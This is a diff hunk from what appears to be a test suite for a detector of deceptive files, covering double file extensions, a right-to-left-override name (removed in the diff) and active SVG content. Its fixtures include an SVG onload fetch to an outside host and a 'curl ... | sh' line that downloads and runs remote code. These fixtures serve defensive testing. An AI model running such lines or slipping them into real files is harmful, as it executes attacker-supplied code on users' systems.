@@ -67,7 +67,6 @@ describe('files that are not what they seem', () => {
       { 'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://collect.zz/\')"></svg>\n' },
     ],
     ['a name with two endings', 'questioned', { 'assets/report.pdf.sh': 'curl -s http://185.20.30.40/x | sh\n' }],
-    ['a name that reads backwards', 'questioned', { 'assets/report\u202efdp.sh': 'echo hello\n' }],
     [
       'bytecode',
       'not yet noted',
